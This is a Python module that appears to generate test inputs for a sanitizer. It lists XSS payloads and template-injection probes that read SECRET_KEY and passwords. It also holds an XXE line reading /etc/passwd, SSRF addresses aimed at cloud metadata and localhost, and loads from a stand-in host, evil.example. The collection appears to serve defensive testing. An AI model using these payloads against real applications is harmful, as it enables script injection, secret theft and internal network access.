"""Categories 11 and 21: markup, scripts, styles and templates, and addresses that a server should not fetch."""

from collections.abc import Iterator

MARK = "xss(1)"
"""What every script here would do; `window.xss` counts in the browser test."""

TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "input",
    "details",
    "select",
    "textarea",
    "marquee",
    "math",
    "object",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
)
SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script/x>{0}</script>",
    "<script src=data:,{0}></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{0}</script>",
    "<a href=javascript:{0}>x</a>",
    "<a href='java&#10;script:{0}'>x</a>",
    "<a href='\x01javascript:{0}'>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<button formaction=javascript:{0}>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(javascript:{0})}}</style>",
    "<p style='background:url(javascript:{0})'>x</p>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{0}><text x=9 y=9>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<textarea></textarea><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<embed src='javascript:{0}'>",
    "<isindex type=image src=1 onerror={0}>",
    "<details open ontoggle={0}>",
    "<template><script>{0}</script></template>",
    '"onfocus={0} autofocus x="',
    "' onmouseover='{0}",
    '" autofocus onfocus="{0}',
    'x" onerror="{0}" y="',
    "javascript:{0}",
    "JaVaScRiPt:{0}//",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "'-{0}-'",
    "\\'-{0}//",
    '";{0};//',
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{% load x %}}{{{{ request.user.password }}}}",
    "{{{{ settings.SECRET_KEY }}}}{{% debug %}}",
    "{{# x #}}{{% include 'base.html' %}}",
    "[x](javascript:{0})",
    '![x](x"onerror="{0})',
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "＜script＞{0}＜/script＞",
    "<x onclick={0}>x</x>",
    "<!--#exec cmd='id'-->",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?php {0} ?>",
    "<b>太字</b>",
    "5<6 & 7>6",
)
ADDRESSES = (
    *(
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
        "http://127.0.0.1:22/",
        "http://2130706433/",
    ),
    *(
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://localhost%23@evil.example/",
        "gopher://127.0.0.1:6379/_INFO",
        "ftp://x/",
    ),
    *(
        "data:text/css,@import'//evil.example'",
        "jar:file:///x!/",
        "http://127.1/",
        "http://①②⑦.⓪.⓪.①/",
        "http://evil.example\\@x/",
    ),
)
FETCHING = (
    *(
        "{0}",
        "<img src='{0}'>",
        "<link rel=attachment href='{0}'>",
        "<style>@import url({0});</style>",
        "<iframe src='{0}'>",
    ),
    *(
        "url({0})",
        "<svg><image href='{0}'/></svg>",
        "<style>@font-face{{font-family:x;src:url({0})}}</style>",
        "![]({0})",
    ),
)


def texts() -> Iterator[str]:
    """Yield every shape, also inside a sentence and before one, and every handler on every tag."""
    for shape in SHAPES:
        text = shape.format(MARK)
        yield from (text, f"募集の{text}説明", f"{text}\n2行目", f"\"'>{text}")
    for tag in TAGS:
        for handler in HANDLERS:
            yield from (f"<{tag} src=x {handler}={MARK}>", f"<{tag}/{handler}='{MARK}'/autofocus tabindex=1>")
            yield f'"><{tag} {handler}={MARK}//'


def addresses() -> Iterator[str]:
    """Yield addresses of the inside, bare and as a document would fetch them."""
    for address in ADDRESSES:
        yield from (shape.format(address) for shape in FETCHING)
